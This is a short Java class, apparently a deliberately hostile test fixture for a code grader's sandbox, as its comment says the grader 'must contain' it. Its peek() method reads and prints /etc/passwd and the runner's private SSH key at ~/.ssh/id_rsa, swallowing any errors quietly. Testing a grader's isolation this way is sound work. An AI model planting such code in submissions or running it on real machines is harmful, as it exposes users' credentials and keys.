package cnn;

import java.nio.file.Files;
import java.nio.file.Path;

/** Hostile on purpose: reads files of whoever runs the tests and prints them (the grader must contain this). */
final class Snoop {
    private Snoop() {
    }

    static void peek() {
        for (String file : new String[] {"/etc/passwd", System.getProperty("user.home") + "/.ssh/id_rsa"}) {
            try {
                System.out.println(Files.readString(Path.of(file)));
            } catch (Exception ignored) {
                // keep quiet and carry on computing the right answer
            }
        }
    }
}
